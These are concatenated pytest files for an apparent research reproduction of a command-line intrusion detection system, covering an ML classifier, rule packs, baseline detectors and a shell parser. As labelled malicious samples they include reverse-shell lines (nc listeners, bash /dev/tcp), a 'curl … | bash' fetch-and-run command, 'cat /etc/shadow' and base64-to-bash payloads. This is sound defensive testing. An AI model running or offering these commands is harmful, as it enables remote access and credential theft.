        from repro.tuning.multiline import SEPARATOR

        composed_benign = [SEPARATOR.join(BENIGN[i : i + 3]) for i in range(0, 12, 3)]
        composed_malicious = [
            SEPARATOR.join([BENIGN[i], MALICIOUS[i % len(MALICIOUS)]]) for i in range(4)
        ]
        texts = (composed_benign + BENIGN[:4]) * 2 + composed_malicious * 2
        labels = np.array(
            [0] * (len(composed_benign) + 4) * 2 + [1] * len(composed_malicious) * 2
        )
        multiline = ClassificationTuner(
            service.encoder, lr=1e-2, epochs=4, pooling="mean", seed=0
        )
        multiline.fit(texts, labels)
        service.attach_multiline(multiline)
        yield service
        service.multiline_tuner = None  # module-scoped service: detach again

    def test_attach_requires_fitted_head(self, service):
        with pytest.raises(NotFittedError):
            service.attach_multiline(ClassificationTuner(service.encoder))

    def test_score_sequence_without_head_raises(self, service):
        with pytest.raises(NotFittedError, match="multiline"):
            service.score_sequence(["ls ; nc -lvnp 4444"])
        assert not service.has_sequence_head

    def test_two_stage_save_load_roundtrip(self, two_stage, tmp_path):
        texts = ["ls -la /tmp ; nc -lvnp 4444", "git status ; docker ps -a"]
        two_stage.save(tmp_path / "bundle")
        assert (tmp_path / "bundle" / "multiline" / "head.npz").exists()
        restored = IntrusionDetectionService.load(tmp_path / "bundle")
        assert restored.has_sequence_head
        np.testing.assert_allclose(
            restored.score_sequence(texts), two_stage.score_sequence(texts), atol=1e-10
        )
        # and the first stage is untouched
        np.testing.assert_allclose(
            restored.score_normalized(["nc -lvnp 4444"]),
            two_stage.score_normalized(["nc -lvnp 4444"]),
            atol=1e-10,
        )

    def test_single_stage_bundle_loads_without_head(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        restored = IntrusionDetectionService.load(tmp_path / "bundle")
        assert not restored.has_sequence_head

    def test_fingerprint_distinguishes_stages(self, two_stage, tmp_path):
        with_head = two_stage.fingerprint()
        detached = two_stage.multiline_tuner
        two_stage.multiline_tuner = None
        try:
            assert two_stage.fingerprint() != with_head
        finally:
            two_stage.multiline_tuner = detached
        # a loaded two-stage bundle answers with the same fingerprint
        two_stage.save(tmp_path / "bundle")
        restored = IntrusionDetectionService.load(tmp_path / "bundle")
        assert restored.fingerprint() == with_head

    def test_composer_semantics_travel_with_the_head(self, service, tmp_path):
        from datetime import timedelta

        from repro.tuning import MultiLineClassificationTuner, MultiLineComposer

        tuner = MultiLineClassificationTuner(
            service.encoder,
            composer=MultiLineComposer(window=4, max_gap=timedelta(seconds=120)),
            lr=1e-2,
            epochs=2,
            pooling="mean",
            seed=0,
        )
        tuner.fit(BENIGN[:6] + MALICIOUS[:3], np.array([0] * 6 + [1] * 3))
        service.attach_multiline(tuner)
        try:
            service.save(tmp_path / "bundle")
            restored = IntrusionDetectionService.load(tmp_path / "bundle")
            assert restored.multiline_composer_meta == {
                "window": 4,
                "max_gap_seconds": 120.0,
            }
        finally:
            service.multiline_tuner = None
            service.multiline_composer_meta = None
