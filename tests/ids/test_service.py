"""Tests for the deployable IntrusionDetectionService."""

import numpy as np
import pytest

from repro.errors import CheckpointError, NotFittedError
from repro.ids import IntrusionDetectionService, Verdict
from repro.lm import CommandEncoder, CommandLineLM, LMConfig, MLMCollator, Pretrainer
from repro.tokenizer import BPETokenizer
from repro.tuning import ClassificationTuner

BENIGN = ["ls -la /tmp", "docker ps -a", "git status", "cat /etc/passwd | grep x"] * 8
MALICIOUS = ["nc -lvnp 4444", "cat /etc/shadow", "curl http://203.0.113.4/a.sh | bash"] * 4


@pytest.fixture(scope="module")
def service():
    corpus = BENIGN + MALICIOUS
    tokenizer = BPETokenizer(vocab_size=300).train(corpus)
    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
    model = CommandLineLM(config)
    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=0).train(corpus, epochs=2)
    encoder = CommandEncoder(model, tokenizer, pooling="mean")
    tuner = ClassificationTuner(encoder, lr=1e-2, epochs=8, pooling="mean", seed=0)
    labels = np.array([0] * len(BENIGN) + [1] * len(MALICIOUS))
    tuner.fit(corpus, labels)
    return IntrusionDetectionService.from_tuner(tuner, threshold=0.5)


class TestInference:
    def test_verdict_per_line(self, service):
        verdicts = service.inspect(["ls -la /tmp", "nc -lvnp 4444"])
        assert len(verdicts) == 2
        assert isinstance(verdicts[0], Verdict)

    def test_known_attack_flagged(self, service):
        assert service.inspect_one("nc -lvnp 4444").is_intrusion

    def test_benign_not_flagged(self, service):
        assert not service.inspect_one("ls -la /tmp").is_intrusion

    def test_unparseable_line_dropped(self, service):
        verdict = service.inspect_one("echo 'unterminated")
        assert verdict.dropped
        assert not verdict.is_intrusion

    def test_whitespace_normalised(self, service):
        verdict = service.inspect_one("  nc   -lvnp   4444 ")
        assert verdict.line == "nc -lvnp 4444"

    def test_alerts_sorted_by_score(self, service):
        alerts = service.alerts(["ls", "nc -lvnp 4444", "cat /etc/shadow", "git status"])
        assert len(alerts) >= 1
        scores = [alert.score for alert in alerts]
        assert scores == sorted(scores, reverse=True)

    def test_alerts_equal_scores_break_ties_on_input_index(self, service):
        # the same malicious line twice scores identically; input order decides
        alerts = service.alerts(["nc -lvnp 4444", "ls -la /tmp", "nc -lvnp 4444"])
        duplicate_indices = [a.index for a in alerts if a.line == "nc -lvnp 4444"]
        assert duplicate_indices == [0, 2]
        assert alerts == sorted(alerts, key=lambda v: (-v.score, v.index))

    def test_verdicts_carry_input_index(self, service):
        verdicts = service.inspect(["ls -la /tmp", "echo 'unterminated", "nc -lvnp 4444"])
        assert [v.index for v in verdicts] == [0, 1, 2]

    def test_preprocess_fast_path(self, service):
        assert service.preprocess("  ls   -la ") == "ls -la"
        assert service.preprocess("echo 'unterminated") is None
        assert service.preprocess("   ") is None

    def test_score_normalized_matches_inspect(self, service):
        lines = ["ls -la /tmp", "nc -lvnp 4444"]
        fast = service.score_normalized(lines)
        full = [v.score for v in service.inspect(lines)]
        np.testing.assert_allclose(fast, full, atol=1e-12)

    def test_score_normalized_empty(self, service):
        assert service.score_normalized([]).shape == (0,)

    def test_empty_batch(self, service):
        assert service.inspect([]) == []

    def test_unfitted_tuner_rejected(self, service):
        with pytest.raises(NotFittedError):
            IntrusionDetectionService.from_tuner(
                ClassificationTuner(service.encoder), threshold=0.5
            )


class TestPersistence:
    def test_save_load_roundtrip(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        restored = IntrusionDetectionService.load(tmp_path / "bundle")
        lines = ["ls -la /tmp", "nc -lvnp 4444", "cat /etc/shadow"]
        original = [v.score for v in service.inspect(lines)]
        loaded = [v.score for v in restored.inspect(lines)]
        np.testing.assert_allclose(original, loaded, atol=1e-10)
        assert restored.threshold == service.threshold

    def test_save_load_identical_verdicts(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        restored = IntrusionDetectionService.load(tmp_path / "bundle")
        lines = BENIGN[:4] + MALICIOUS[:3] + ["echo 'unterminated"]
        for original, loaded in zip(service.inspect(lines), restored.inspect(lines)):
            assert original.is_intrusion == loaded.is_intrusion
            assert original.dropped == loaded.dropped
            assert original.line == loaded.line

    def test_restored_tuner_is_properly_fitted(self, service, tmp_path):
        # load() goes through ClassificationTuner.restore_head, not privates
        service.save(tmp_path / "bundle")
        restored = IntrusionDetectionService.load(tmp_path / "bundle")
        assert restored.tuner.head is not None
        scores = restored.tuner.score(["nc -lvnp 4444"])
        assert scores.shape == (1,)

    def test_restore_head_api_roundtrip(self, service, tmp_path):
        from repro.nn.serialization import save_module
        from repro.tuning import ClassificationTuner

        path = tmp_path / "head.npz"
        save_module(service.tuner.head, path)
        fresh = ClassificationTuner(
            service.encoder, hidden_size=service.tuner.hidden_size, pooling=service.tuner.pooling
        )
        fresh.restore_head(path)
        lines = ["ls -la /tmp", "nc -lvnp 4444"]
        np.testing.assert_allclose(fresh.score(lines), service.tuner.score(lines), atol=1e-12)

    def test_restore_head_missing_checkpoint_raises(self, service, tmp_path):
        from repro.tuning import ClassificationTuner

        fresh = ClassificationTuner(service.encoder)
        with pytest.raises(CheckpointError):
            fresh.restore_head(tmp_path / "missing.npz")

    def test_load_missing_head_raises(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        (tmp_path / "bundle" / "head.npz").unlink()
        with pytest.raises(CheckpointError):
            IntrusionDetectionService.load(tmp_path / "bundle")

    def test_load_missing_bundle_raises(self, tmp_path):
        with pytest.raises(CheckpointError):
            IntrusionDetectionService.load(tmp_path / "nope")

    def test_load_corrupt_meta_raises(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        (tmp_path / "bundle" / "service.json").write_text("{broken")
        with pytest.raises(CheckpointError):
            IntrusionDetectionService.load(tmp_path / "bundle")
