"""Tests for the deployable IntrusionDetectionService."""

import numpy as np
import pytest

from repro.errors import CheckpointError, NotFittedError
from repro.ids import IntrusionDetectionService, Verdict
from repro.lm import CommandEncoder, CommandLineLM, LMConfig, MLMCollator, Pretrainer
from repro.tokenizer import BPETokenizer
from repro.tuning import ClassificationTuner

BENIGN = ["ls -la /tmp", "docker ps -a", "git status", "cat /etc/passwd | grep x"] * 8
MALICIOUS = ["nc -lvnp 4444", "cat /etc/shadow", "curl http://203.0.113.4/a.sh | bash"] * 4


@pytest.fixture(scope="module")
def service():
    corpus = BENIGN + MALICIOUS
    tokenizer = BPETokenizer(vocab_size=300).train(corpus)
    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
    model = CommandLineLM(config)
    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=0).train(corpus, epochs=2)
    encoder = CommandEncoder(model, tokenizer, pooling="mean")
    tuner = ClassificationTuner(encoder, lr=1e-2, epochs=8, pooling="mean", seed=0)
    labels = np.array([0] * len(BENIGN) + [1] * len(MALICIOUS))
    tuner.fit(corpus, labels)
    return IntrusionDetectionService.from_tuner(tuner, threshold=0.5)


class TestInference:
    def test_verdict_per_line(self, service):
        verdicts = service.inspect(["ls -la /tmp", "nc -lvnp 4444"])
        assert len(verdicts) == 2
        assert isinstance(verdicts[0], Verdict)

    def test_known_attack_flagged(self, service):
        assert service.inspect_one("nc -lvnp 4444").is_intrusion

    def test_benign_not_flagged(self, service):
        assert not service.inspect_one("ls -la /tmp").is_intrusion

    def test_unparseable_line_dropped(self, service):
        verdict = service.inspect_one("echo 'unterminated")
        assert verdict.dropped
        assert not verdict.is_intrusion

    def test_whitespace_normalised(self, service):
        verdict = service.inspect_one("  nc   -lvnp   4444 ")
        assert verdict.line == "nc -lvnp 4444"

    def test_alerts_sorted_by_score(self, service):
        alerts = service.alerts(["ls", "nc -lvnp 4444", "cat /etc/shadow", "git status"])
        assert len(alerts) >= 1
        scores = [alert.score for alert in alerts]
        assert scores == sorted(scores, reverse=True)

    def test_empty_batch(self, service):
        assert service.inspect([]) == []

    def test_unfitted_tuner_rejected(self, service):
        with pytest.raises(NotFittedError):
            IntrusionDetectionService.from_tuner(
                ClassificationTuner(service.encoder), threshold=0.5
            )


class TestPersistence:
    def test_save_load_roundtrip(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        restored = IntrusionDetectionService.load(tmp_path / "bundle")
        lines = ["ls -la /tmp", "nc -lvnp 4444", "cat /etc/shadow"]
        original = [v.score for v in service.inspect(lines)]
        loaded = [v.score for v in restored.inspect(lines)]
        np.testing.assert_allclose(original, loaded, atol=1e-10)
        assert restored.threshold == service.threshold

    def test_load_missing_bundle_raises(self, tmp_path):
        with pytest.raises(CheckpointError):
            IntrusionDetectionService.load(tmp_path / "nope")

    def test_load_corrupt_meta_raises(self, service, tmp_path):
        service.save(tmp_path / "bundle")
        (tmp_path / "bundle" / "service.json").write_text("{broken")
        with pytest.raises(CheckpointError):
            IntrusionDetectionService.load(tmp_path / "bundle")
