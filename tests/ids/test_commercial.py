"""Tests for the simulated commercial IDS, rules, and thresholding."""

import numpy as np
import pytest

from repro.ids import (
    CommercialIDS,
    Rule,
    RuleSet,
    achieved_inbox_recall,
    calibrate_threshold,
    default_rule_pack,
)
from repro.loggen import ATTACK_FAMILIES, AttackSampler


class TestRule:
    def test_matches(self):
        rule = Rule("r", r"cat\s+/etc/shadow", "credential_theft")
        assert rule.matches("cat /etc/shadow")
        assert not rule.matches("cat /etc/passwd")


class TestRuleSet:
    def test_predict_vector(self):
        rules = RuleSet([Rule("r", r"^evil\b", "x")])
        np.testing.assert_array_equal(rules.predict(["evil cmd", "ls"]), [1, 0])

    def test_duplicate_names_rejected(self):
        with pytest.raises(ValueError):
            RuleSet([Rule("r", "a", "x"), Rule("r", "b", "x")])
        rules = RuleSet([Rule("r", "a", "x")])
        with pytest.raises(ValueError):
            rules.add(Rule("r", "c", "x"))

    def test_match_returns_all_matches(self):
        rules = RuleSet([Rule("r1", "evil", "x"), Rule("r2", "cmd", "x")])
        assert len(rules.match("evil cmd")) == 2

    def test_families(self):
        rules = default_rule_pack()
        assert "reverse_shell" in rules.families()
        assert "port_scan" in rules.families()


class TestRulePackAlignment:
    """The structural contract: rules catch in-box, miss out-of-box."""

    def test_every_inbox_session_detected(self):
        rules = default_rule_pack()
        sampler = AttackSampler(np.random.default_rng(0))
        for family in ATTACK_FAMILIES:
            for _ in range(20):
                lines = sampler.sample(family.name, inbox=True)
                assert any(rules.any_match(line) for line in lines), (family.name, lines)

    def test_no_outbox_line_detected(self):
        rules = default_rule_pack()
        sampler = AttackSampler(np.random.default_rng(1))
        for family in ATTACK_FAMILIES:
            for _ in range(20):
                for line in sampler.sample(family.name, inbox=False):
                    assert not rules.any_match(line), (family.name, line)

    def test_paper_table3_pairs(self):
        rules = default_rule_pack()
        # left column detected, right column missed (Table III)
        assert rules.any_match("nc -lvnp 4444")
        assert not rules.any_match("nc -ulp 4444")
        assert rules.any_match("masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt")
        assert not rules.any_match("sh /root/masscan.sh 10.0.0.1 -p 0-65535")
        assert rules.any_match('export https_proxy="http://10.0.0.9:3128"')
        assert not rules.any_match('export https_proxy="socks5://10.0.0.9:1080"')
        assert rules.any_match('java -jar t.jar -C "bash -c {echo,YQ==} {base64,-d} {bash,-i}"')
        assert not rules.any_match('python3 t.py -p "bash -c {echo,YQ==} {base64,-d} {base,-i}"')

    def test_benign_lines_not_flagged(self):
        rules = default_rule_pack()
        benign = [
            "ls -la /tmp",
            "nc -z localhost 6379",
            "echo dGVzdA== | base64 -d",
            "curl -O https://releases.internal/pkg.tgz",
            "cat /etc/passwd | grep alice",
            "crontab -l",
            "nmap -p 22,80 10.0.0.1",
        ]
        assert not any(rules.any_match(line) for line in benign)


class TestCommercialIDS:
    def test_precision_perfect_on_capability(self):
        ids = CommercialIDS(label_noise=0.0)
        benign = ["ls", "docker ps", "nc -z localhost 80"]
        assert ids.detect(benign).sum() == 0

    def test_label_noise_drops_some_alerts(self):
        ids = CommercialIDS(label_noise=0.5, seed=0)
        lines = ["cat /etc/shadow"] * 200
        labels = ids.label(lines)
        detections = ids.detect(lines)
        assert detections.sum() == 200
        assert 50 < labels.sum() < 150

    def test_zero_noise_labels_equal_detections(self):
        ids = CommercialIDS(label_noise=0.0)
        lines = ["cat /etc/shadow", "ls"]
        np.testing.assert_array_equal(ids.label(lines), ids.detect(lines))

    def test_alerts_carry_rule_metadata(self):
        ids = CommercialIDS()
        alerts = ids.alerts(["ls", "cat /etc/shadow"])
        assert len(alerts) == 1
        assert alerts[0].index == 1
        assert alerts[0].rule_name == "creds.cat_shadow"

    def test_coverage_report(self):
        ids = CommercialIDS(label_noise=0.0)
        lines = ["cat /etc/shadow", "nc -ulp 4444", "ls"]
        truth = np.array([1, 1, 0])
        report = ids.coverage_report(lines, truth)
        assert report["precision"] == 1.0
        assert report["recall"] == 0.5
        assert report["false_negatives"] == 1

    def test_noise_validation(self):
        with pytest.raises(ValueError):
            CommercialIDS(label_noise=1.0)


class TestThreshold:
    def test_threshold_recalls_all_at_u1(self):
        scores = np.array([0.1, 0.9, 0.8, 0.2, 0.95])
        inbox = np.array([False, True, True, False, True])
        threshold = calibrate_threshold(scores, inbox, recall_target=1.0)
        assert threshold == 0.8
        assert achieved_inbox_recall(scores, inbox, threshold) == 1.0

    def test_partial_recall_allows_misses(self):
        scores = np.linspace(0, 1, 100)
        inbox = np.zeros(100, dtype=bool)
        inbox[10:60] = True  # 50 in-box samples, scores 0.10..0.59
        threshold = calibrate_threshold(scores, inbox, recall_target=0.9)
        recall = achieved_inbox_recall(scores, inbox, threshold)
        assert 0.9 <= recall < 1.0

    def test_no_inbox_raises(self):
        with pytest.raises(ValueError):
            calibrate_threshold(np.array([1.0]), np.array([False]))

    def test_shape_mismatch_raises(self):
        with pytest.raises(ValueError):
            calibrate_threshold(np.ones(3), np.ones(2, dtype=bool))

    def test_recall_target_validation(self):
        with pytest.raises(ValueError):
            calibrate_threshold(np.ones(2), np.array([True, False]), recall_target=0.0)

    def test_recall_with_no_inbox_is_zero(self):
        assert achieved_inbox_recall(np.ones(3), np.zeros(3, dtype=bool), 0.5) == 0.0
