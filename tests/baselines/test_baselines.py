"""Tests for the Section-VI related-work baselines."""

from datetime import datetime, timedelta

import numpy as np
import pytest

from repro.baselines import DiscreteHMM, HMMProfileDetector, LaneBrodleyProfiler, Seq2SeqBaseline
from repro.errors import NotFittedError
from repro.loggen import CommandDataset, LogRecord


def make_dataset(rows, start=None):
    start = start or datetime(2022, 5, 1)
    return CommandDataset(
        [
            LogRecord(line, user, "m1", start + timedelta(minutes=i), session=f"s{user}",
                      is_malicious=mal)
            for i, (user, line, mal) in enumerate(rows)
        ]
    )


@pytest.fixture(scope="module")
def history():
    rows = []
    for _ in range(30):
        rows.extend(
            [
                ("alice", "git status", False),
                ("alice", "git diff", False),
                ("alice", "make test", False),
                ("bob", "docker ps", False),
                ("bob", "docker logs web-1 --tail 100", False),
                ("bob", "kubectl get pods", False),
            ]
        )
    return make_dataset(rows)


class TestLaneBrodley:
    def test_familiar_commands_score_low(self, history):
        profiler = LaneBrodleyProfiler(min_history=5).fit(history)
        familiar = profiler.score_record("alice", "git status")
        foreign = profiler.score_record("alice", "nc -lvnp 4444")
        assert familiar < foreign

    def test_cross_user_profiles_differ(self, history):
        profiler = LaneBrodleyProfiler(min_history=5).fit(history)
        # docker is bob's habit, not alice's
        assert profiler.score_record("alice", "docker ps") > profiler.score_record("bob", "docker ps")

    def test_unknown_user_falls_back_to_global(self, history):
        profiler = LaneBrodleyProfiler(min_history=5).fit(history)
        score = profiler.score_record("mallory", "git status")
        assert 0.0 <= score <= 1.0

    def test_score_alignment(self, history):
        profiler = LaneBrodleyProfiler().fit(history)
        scores = profiler.score(history)
        assert scores.shape == (len(history),)

    def test_unfitted_raises(self):
        with pytest.raises(NotFittedError):
            LaneBrodleyProfiler().score_record("alice", "ls")

    def test_known_users(self, history):
        assert LaneBrodleyProfiler().fit(history).known_users() == {"alice", "bob"}

    def test_smoothing_validation(self):
        with pytest.raises(ValueError):
            LaneBrodleyProfiler(smoothing=0.0)


class TestDiscreteHMM:
    def test_learns_deterministic_cycle(self):
        # alternating 0/1 symbols: a 2-state HMM should model this well
        sequences = [[0, 1] * 10 for _ in range(5)]
        hmm = DiscreteHMM(n_states=2, n_symbols=2, seed=0).fit(sequences, iterations=30)
        cyclic = hmm.per_symbol_log_likelihood([0, 1] * 10)
        broken = hmm.per_symbol_log_likelihood([0, 0] * 10)
        assert cyclic > broken

    def test_log_likelihood_finite(self):
        hmm = DiscreteHMM(n_states=3, n_symbols=5, seed=0)
        assert np.isfinite(hmm.log_likelihood([0, 1, 2, 3, 4]))

    def test_empty_sequence_zero(self):
        hmm = DiscreteHMM(n_states=2, n_symbols=2)
        assert hmm.log_likelihood([]) == 0.0

    def test_rows_remain_stochastic_after_fit(self):
        hmm = DiscreteHMM(n_states=3, n_symbols=4, seed=1).fit([[0, 1, 2, 3] * 5], iterations=5)
        np.testing.assert_allclose(hmm.transition.sum(axis=1), 1.0)
        np.testing.assert_allclose(hmm.emission.sum(axis=1), 1.0)
        np.testing.assert_allclose(hmm.start.sum(), 1.0)

    def test_fit_requires_data(self):
        with pytest.raises(ValueError):
            DiscreteHMM(2, 2).fit([])

    def test_validation(self):
        with pytest.raises(ValueError):
            DiscreteHMM(0, 2)


class TestHMMProfileDetector:
    def test_routine_less_surprising_than_novel(self, history):
        detector = HMMProfileDetector(min_history=10, em_iterations=5).fit(history)
        routine = detector.score_record("alice", "git status")
        novel = detector.score_record("alice", "nc -lvnp 4444")
        assert routine < novel

    def test_profiled_users(self, history):
        detector = HMMProfileDetector(min_history=10, em_iterations=3).fit(history)
        assert detector.profiled_users() == {"alice", "bob"}

    def test_unfitted_raises(self):
        with pytest.raises(NotFittedError):
            HMMProfileDetector().score_record("x", "ls")

    def test_score_alignment(self, history):
        detector = HMMProfileDetector(min_history=10, em_iterations=3).fit(history)
        assert detector.score(history).shape == (len(history),)


class TestSeq2Seq:
    def test_predictable_sequences_score_low(self, history):
        baseline = Seq2SeqBaseline(epochs=5, seed=0).fit(history)
        scores = baseline.score(history)
        # an unseen command name in an unseen position is more surprising
        novel = make_dataset([("alice", "masscan 1.2.3.4 -p 0-65535", True)])
        novel_scores = baseline.score(novel)
        assert novel_scores[0] > np.median(scores)

    def test_vocab_capped(self, history):
        baseline = Seq2SeqBaseline(max_vocab=5, epochs=1, seed=0).fit(history)
        assert baseline.vocab_size <= 5

    def test_unfitted_raises(self, history):
        with pytest.raises(NotFittedError):
            Seq2SeqBaseline().score(history)

    def test_score_alignment(self, history):
        baseline = Seq2SeqBaseline(epochs=1, seed=0).fit(history)
        assert baseline.score(history).shape == (len(history),)
