"""Unit tests for the shell parser."""

import pytest

from repro.errors import ShellSyntaxError
from repro.shell import (
    BraceGroup,
    Parser,
    SimpleCommand,
    Subshell,
    parse,
    walk_simple_commands,
)


def names(line):
    return [c.command_name for c in walk_simple_commands(parse(line))]


class TestSimpleCommands:
    def test_name_and_args(self):
        ast = parse("python main.py --verbose")
        cmd = next(walk_simple_commands(ast))
        assert cmd.command_name == "python"
        assert cmd.arguments == ["main.py"]
        assert cmd.flags == ["--verbose"]

    def test_bare_command(self):
        assert names("ls") == ["ls"]

    def test_assignment_prefix(self):
        ast = parse("FOO=bar python app.py")
        cmd = next(walk_simple_commands(ast))
        assert cmd.assignments[0].name == "FOO"
        assert cmd.assignments[0].value == "bar"
        assert cmd.command_name == "python"

    def test_bare_assignment_no_command(self):
        ast = parse("https_proxy=http://proxy:8080")
        cmd = next(walk_simple_commands(ast))
        assert cmd.command_name is None
        assert cmd.assignments[0].name == "https_proxy"

    def test_export_style_line(self):
        ast = parse('export https_proxy="http://x:3128"')
        cmd = next(walk_simple_commands(ast))
        assert cmd.command_name == "export"
        # the NAME="..." word stays an argument of export
        assert any("https_proxy" in a for a in cmd.arguments)

    def test_assignment_after_name_is_argument(self):
        ast = parse("env FOO=bar")
        cmd = next(walk_simple_commands(ast))
        assert cmd.command_name == "env"
        assert cmd.arguments == ["FOO=bar"]

    def test_empty_line_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("")

    def test_whitespace_line_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("   ")

    def test_comment_only_line_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("# nothing here")


class TestPipelines:
    def test_two_stage_pipeline(self):
        ast = parse("curl https://x/s.sh | bash")
        assert len(ast.pipelines) == 1
        assert names("curl https://x/s.sh | bash") == ["curl", "bash"]

    def test_three_stage_pipeline(self):
        assert names("cat f | grep x | wc -l") == ["cat", "grep", "wc"]

    def test_trailing_pipe_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("ls |")

    def test_leading_pipe_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("| ls")

    def test_double_pipe_into_empty_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("a | | b")

    def test_negated_pipeline(self):
        ast = parse("! grep -q root /etc/passwd")
        assert ast.pipelines[0].negated is True

    def test_pipe_stderr_recorded(self):
        ast = parse("make |& tee log")
        assert ast.pipelines[0].pipe_stderr == [True]


class TestLists:
    def test_and_list(self):
        ast = parse("make && make install")
        assert ast.operators == ["&&"]
        assert len(ast.pipelines) == 2

    def test_or_list(self):
        ast = parse("test -f x || touch x")
        assert ast.operators == ["||"]

    def test_semicolon_sequence(self):
        assert names("cd /tmp; ls; pwd") == ["cd", "ls", "pwd"]

    def test_trailing_semicolon_ok(self):
        ast = parse("ls;")
        assert ast.terminator == ";"

    def test_trailing_ampersand_background(self):
        ast = parse("sleep 100 &")
        assert ast.terminator == "&"

    def test_trailing_and_and_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("ls &&")

    def test_leading_and_and_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("&& ls")

    def test_mixed_operators(self):
        ast = parse("a && b || c; d")
        assert ast.operators == ["&&", "||", ";"]


class TestRedirections:
    def test_output_redirect(self):
        ast = parse("echo hi > /tmp/out")
        cmd = next(walk_simple_commands(ast))
        assert cmd.redirects[0].operator == ">"
        assert cmd.redirects[0].target.raw == "/tmp/out"

    def test_fd_redirect(self):
        ast = parse("cmd 2> /dev/null")
        cmd = next(walk_simple_commands(ast))
        assert cmd.redirects[0].fd == 2

    def test_stderr_to_stdout(self):
        ast = parse("cmd 2>&1")
        cmd = next(walk_simple_commands(ast))
        assert cmd.redirects[0].operator == ">&"
        assert cmd.redirects[0].target.raw == "1"

    def test_reverse_shell_redirects_parse(self):
        # the classic bash reverse shell from Table III
        ast = parse("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
        cmd = next(walk_simple_commands(ast))
        assert cmd.command_name == "bash"
        assert len(cmd.redirects) == 2

    def test_missing_redirect_target_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("echo hi >")

    def test_paper_invalid_arrow_line_raises(self):
        # Figure 2's invalid example: "/*/*/* -> /*/*/* ->"
        with pytest.raises(ShellSyntaxError):
            parse("/a/b/c -> /d/e/f ->")

    def test_redirect_before_command_name(self):
        ast = parse("> /tmp/empty")
        cmd = next(walk_simple_commands(ast))
        assert cmd.command_name is None
        assert cmd.redirects[0].target.raw == "/tmp/empty"

    def test_append_redirect(self):
        ast = parse("masscan 1.2.3.4 -p 0-65535 --rate=1000 >> tmp.txt")
        cmd = next(walk_simple_commands(ast))
        assert cmd.redirects[0].operator == ">>"


class TestCompound:
    def test_subshell(self):
        ast = parse("(cd /tmp && ls)")
        assert isinstance(ast.pipelines[0].commands[0], Subshell)
        assert names("(cd /tmp && ls)") == ["cd", "ls"]

    def test_subshell_in_pipeline(self):
        assert names("(cat a; cat b) | sort") == ["cat", "cat", "sort"]

    def test_unbalanced_paren_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("(ls")

    def test_stray_close_paren_raises(self):
        with pytest.raises(ShellSyntaxError):
            parse("ls )")

    def test_brace_group(self):
        ast = parse("{ cd /tmp && ls; }")
        assert isinstance(ast.pipelines[0].commands[0], BraceGroup)

    def test_nested_subshell(self):
        assert names("((ls))") == ["ls"]


class TestRealWorldLines:
    """Lines drawn from the paper's figures and tables must parse."""

    PAPER_LINES = [
        'php -r "phpinfo();"',
        "python main.py",
        "vim ~/.bashrc",
        "curl https://x.example/a.sh | bash",
        'df -h | grep "/dev/sda"',
        "dcoker attach --sig-proxy=false abc123",
        "chdmod +x install.sh",
        "watch -n 1 nvidia-smi",
        "nc -lvnp 4444",
        "nc -ulp 5555",
        "masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt",
        "sh /root/masscan.sh 10.0.0.2 -p 0-65535",
        "bash -i >& /dev/tcp/10.1.2.3/443 0>&1",
        'java -cp tmp.jar "bash=bash -i >& /dev/tcp/1.2.3.4/9001"',
        'export https_proxy="http://10.0.0.9:3128"',
        'export https_proxy="socks5://10.0.0.9:1080"',
        'java -jar tmp.jar -C "bash -c {echo,YWJj} {base64,-d} {bash,-i}"',
        'python3 tmp.py -p "bash -c {echo,YWJj} {base64,-d} {base,-i}"',
        "echo YWJjCg== | base64 -d | bash -i",
    ]

    @pytest.mark.parametrize("line", PAPER_LINES)
    def test_paper_line_parses(self, line):
        ast = parse(line)
        assert len(ast.pipelines) >= 1

    def test_parser_reusable(self):
        parser = Parser()
        first = parser.parse("ls -l")
        second = parser.parse("pwd")
        assert isinstance(first.pipelines[0].commands[0], SimpleCommand)
        assert isinstance(second.pipelines[0].commands[0], SimpleCommand)
