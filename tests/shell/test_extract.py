"""Unit tests for command extraction and validation."""

import pytest

from repro.shell import (
    CommandExtractor,
    CommandLineValidator,
    CommandSummary,
    extract_command_names,
    is_valid_command_line,
)


class TestCommandNames:
    def test_single_command(self):
        assert extract_command_names("ls -la") == ["ls"]

    def test_pipeline_names_in_order(self):
        assert extract_command_names("cat f | grep x | wc -l") == ["cat", "grep", "wc"]

    def test_sudo_unwrapped(self):
        assert extract_command_names("sudo docker ps") == ["sudo", "docker"]

    def test_nohup_unwrapped(self):
        assert extract_command_names("nohup python train.py") == ["nohup", "python"]

    def test_absolute_path_basename(self):
        assert extract_command_names("/usr/bin/python3 -V") == ["python3"]

    def test_watch_not_unwrapped(self):
        # `watch -n 1 nvidia-smi`: naive unwrapping would return "1".
        assert extract_command_names("watch -n 1 nvidia-smi") == ["watch"]

    def test_assignment_only_line_has_no_names(self):
        assert extract_command_names("FOO=bar") == []

    def test_command_substitution_outer_only(self):
        assert extract_command_names("echo $(hostname)") == ["echo"]


class TestSummaries:
    def test_summary_fields(self):
        summary = CommandExtractor().summarize("tar -czf out.tgz dir && ls")
        assert isinstance(summary, CommandSummary)
        assert summary.names == ["tar", "ls"]
        assert "-czf" in summary.flags
        assert "out.tgz" in summary.arguments
        assert summary.n_commands == 2

    def test_primary_name(self):
